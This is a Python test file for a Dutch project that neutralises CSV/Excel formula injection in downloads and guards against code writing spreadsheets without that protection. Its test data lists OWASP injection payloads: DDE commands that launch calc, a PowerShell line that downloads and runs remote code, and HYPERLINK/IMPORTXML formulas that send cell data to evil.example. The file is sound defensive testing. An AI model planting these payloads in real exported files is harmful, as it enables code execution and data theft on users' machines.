"""Downloads keep a text that a spreadsheet would run as a formula as text (OWASP "CSV Injection"), and every
download writes through kernkompas.lib.spreadsheet, so that the apps to come get the same protection."""

from __future__ import annotations

import ast
import csv
import datetime
import decimal
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kernkompas.lib.spreadsheet import csv_bytes, is_formula_like, safe_cell, xlsx_bytes

# The payloads OWASP and the CSV-injection write-ups list, and the variants that slip past a naive check.
OWASP_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik voor de huurprijs")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!E2",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "\tBakkerij",  # OWASP: a leading tab or carriage return is neutralised whatever follows
    "\rBakkerij",
]
HARMLESS = ["Bakkerij Peeters", "Markt 1", "'s-Hertogenbosch", "1+1", "Café = koffie", "a@b.be", "Kapper & Co"]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_formula_in_a_text_gets_an_apostrophe_in_csv(payload):
    assert is_formula_like(payload)
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_an_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text)
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-5, -1.5, 0, 3, 2.25])
def test_numbers_stay_numbers_even_negative_ones(number):
    assert safe_cell(number) == number
    row = list(csv.reader(io.StringIO(csv_bytes(["n"], [[number]]).decode("utf-8-sig"))))[1]
    assert row == [str(number)]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_csv_quotes_every_text_so_that_a_separator_cannot_start_a_cell():
    content = csv_bytes(["naam", "wvo"], [["Bakker;=1+1", 85], ["Bakker\t=1+1", -3]]).decode("utf-8-sig")
    assert content.splitlines()[1] == '"Bakker;=1+1",85'
    assert content.splitlines()[2] == '"Bakker\t=1+1",-3'


def test_every_owasp_payload_comes_back_from_the_csv_behind_an_apostrophe():
    content = csv_bytes(["naam", "adres"], [[payload, payload] for payload in OWASP_PAYLOADS])
    rows = _csv_rows(content)[1:]
    # A field may hold a line break: the csv module reads it back whole.
    assert [row[0] for row in rows] == ["'" + p for p in OWASP_PAYLOADS]


def test_the_csv_header_is_neutralised_too():
    assert _csv_rows(csv_bytes(["=1+1"], []))[0] == ["'=1+1"]


def test_the_excel_file_holds_every_payload_as_text_and_never_a_formula():
    headers = ["naam", "getal", "datum", "keten"]
    rows = [[payload, -5, datetime.date(2025, 3, 1), True] for payload in OWASP_PAYLOADS]
    book = load_workbook(io.BytesIO(xlsx_bytes(headers, rows, sheet="panden")))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in names] == names_as_read()
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    number, day, chain = sheet["B2"], sheet["C2"], sheet["D2"]
    assert (number.value, number.data_type) == (-5, "n")
    assert day.value.date() == datetime.date(2025, 3, 1) and chain.value is True


def names_as_read() -> list[str]:
    """The payloads as openpyxl reads them back (XML turns a carriage return into a line feed)."""
    return [payload.replace("\r", "\n") if payload.startswith("\r") else payload for payload in OWASP_PAYLOADS]


def test_the_excel_file_keeps_an_error_lookalike_and_control_characters_out_of_trouble():
    rows = [["#N/A"], ["Bakkerij\x01Peeters"], ["x" * 40_000]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["naam"], rows, sheet="panden[1]:*?"))).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("#N/A", "s")
    assert sheet["A3"].value == "BakkerijPeeters"
    assert len(sheet["A4"].value) == 32_767
    assert sheet.title == "panden-1----"


# --- The guard: every download writes through kernkompas.lib.spreadsheet ---------------------------------------

PACKAGE = Path(__file__).resolve().parents[2]
ALLOWED = {"lib/spreadsheet.py"}
CSV_WRITERS = {"writer", "DictWriter"}
EXCEL_WRITERS = {"Workbook", "WriteOnlyCell"}  # openpyxl's; load_workbook only reads
WRITER_PACKAGES = {"xlsxwriter", "xlwt", "pyexcelerate", "odf", "pyexcel", "tablib"}
FRAME_WRITERS = {"to_csv", "to_excel"}  # pandas and friends


def spreadsheet_writers(source: str) -> list[tuple[int, str]]:
    """Where ``source`` writes a CSV or Excel file itself: the csv module's writers, openpyxl's workbook, a
    spreadsheet-writing package, a data frame's ``to_csv``/``to_excel``, however imported or renamed."""
    found = []
    modules = {}  # a local name -> the module it stands for ("csv", "openpyxl")
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            for alias in node.names:
                top = alias.name.split(".")[0]
                modules[(alias.asname or alias.name).split(".")[0]] = top
                if top in WRITER_PACKAGES:
                    found.append((node.lineno, f"imports {alias.name}"))
        elif isinstance(node, ast.ImportFrom) and node.module:
            top = node.module.split(".")[0]
            names = {alias.name for alias in node.names}
            if top in WRITER_PACKAGES:
                found.append((node.lineno, f"imports from {node.module}"))
            elif (top == "csv" and names & CSV_WRITERS) or (top == "openpyxl" and names & EXCEL_WRITERS):
                found.append((node.lineno, f"imports {', '.join(sorted(names))} from {node.module}"))
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Attribute):
            module = modules.get(_root_name(node.value))
            if (module == "csv" and node.attr in CSV_WRITERS) or (module == "openpyxl" and node.attr in EXCEL_WRITERS):
                found.append((node.lineno, f"uses {module}.{node.attr}"))
        elif isinstance(node, ast.Call) and getattr(node.func, "attr", "") in FRAME_WRITERS:
            found.append((node.lineno, f"calls .{node.func.attr}()"))
    return sorted(found)


def _root_name(node: ast.AST) -> str:
    while isinstance(node, ast.Attribute):
        node = node.value
    return node.id if isinstance(node, ast.Name) else ""


def our_modules() -> list[Path]:
    """Every module of the package but tests and migrations (an app added later included)."""
    skip = {"tests", "migrations"}
    return sorted(p for p in PACKAGE.rglob("*.py") if not skip & set(p.relative_to(PACKAGE).parts))


def test_the_guard_reads_the_whole_package():
    names = {p.relative_to(PACKAGE).as_posix() for p in our_modules()}
    assert {"lib/spreadsheet.py", "monitor/downloads.py", "core/wagtail_exports.py"} <= names
    assert not any("/tests/" in f"/{name}" for name in names)


def test_no_code_outside_lib_spreadsheet_writes_a_csv_or_excel_file_itself():
    offenders = [
        f"{path.relative_to(PACKAGE).as_posix()}:{line}: {what}"
        for path in our_modules()
        if path.relative_to(PACKAGE).as_posix() not in ALLOWED
        for line, what in spreadsheet_writers(path.read_text(encoding="utf-8"))
    ]
    assert not offenders, (
        "This code writes a CSV or Excel file itself, so a text such as =HYPERLINK(…) from data would become a live "
        "formula in the user's spreadsheet. Write downloads with kernkompas.lib.spreadsheet (csv_bytes, csv_lines, "
        "xlsx_bytes, write_xlsx), which neutralises formulas, or give a Wagtail view list_export "
        "(kernkompas/core/wagtail_exports.py):\n" + "\n".join(offenders)
    )


def test_lib_spreadsheet_itself_is_found_writing():
    assert spreadsheet_writers((PACKAGE / "lib/spreadsheet.py").read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    "bad",
    [
        "import csv\nw = csv.writer(response)",
        "import csv\nw = csv.DictWriter(out, fieldnames=['a'])",
        "import csv as c\nw = c.writer(out)",
        "from csv import writer\nw = writer(out)",
        "from csv import DictWriter as W",
        "import csv\nmake = csv.writer",
        "from openpyxl import Workbook\nbook = Workbook()",
        "import openpyxl\nbook = openpyxl.Workbook()",
        "from openpyxl.workbook import Workbook",
        "from openpyxl.cell import WriteOnlyCell",
        "def f():\n    import openpyxl\n    return openpyxl.workbook.Workbook()",
        "import xlsxwriter",
        "from xlsxwriter import Workbook",
        "from odf.opendocument import OpenDocumentSpreadsheet",
        "frame.to_csv(out)",
        "frame.to_excel(out)",
    ],
)
def test_the_guard_catches(bad):
    assert spreadsheet_writers(bad)


@pytest.mark.parametrize(
    "good",
    [
        "import csv\nrows = csv.reader(handle)",
        "import csv\nrows = csv.DictReader(handle)\ndialect = csv.Sniffer().sniff(sample)",
        "import openpyxl\nbook = openpyxl.load_workbook(path, read_only=True, data_only=True)",
        "from kernkompas.lib import spreadsheet\ncontent = spreadsheet.csv_bytes(headers, rows)",
        "writer = make_writer()\nwriter.writerow(row)",
        "text = 'csv.writer and openpyxl.Workbook are named in this string'",
    ],
)
def test_the_guard_lets_through(good):
    assert not spreadsheet_writers(good)


def test_a_dutch_csv_has_semicolons_decimal_commas_and_unquoted_numbers():
    """Issue 11: Dutch Excel opens a CSV with a double click only as ';'-separated with decimal commas; before,
    every download was comma-separated with decimal points and showed as one column of text."""
    body = csv_bytes(["a", "b"], [[12.5, "=1+1"], [decimal.Decimal("3.10"), 7]], dutch=True)
    assert body.decode("utf-8-sig").splitlines() == ['"a";"b"', '12,5;"\'=1+1"', "3,10;7"]


def test_an_excel_column_can_show_shares_as_percentages():
    book = load_workbook(io.BytesIO(xlsx_bytes(["aandeel"], [[0.125]], sheet="s", number_formats=["0.0%"])))
    cell = book.active["A2"]
    assert cell.value == 0.125 and cell.number_format == "0.0%"
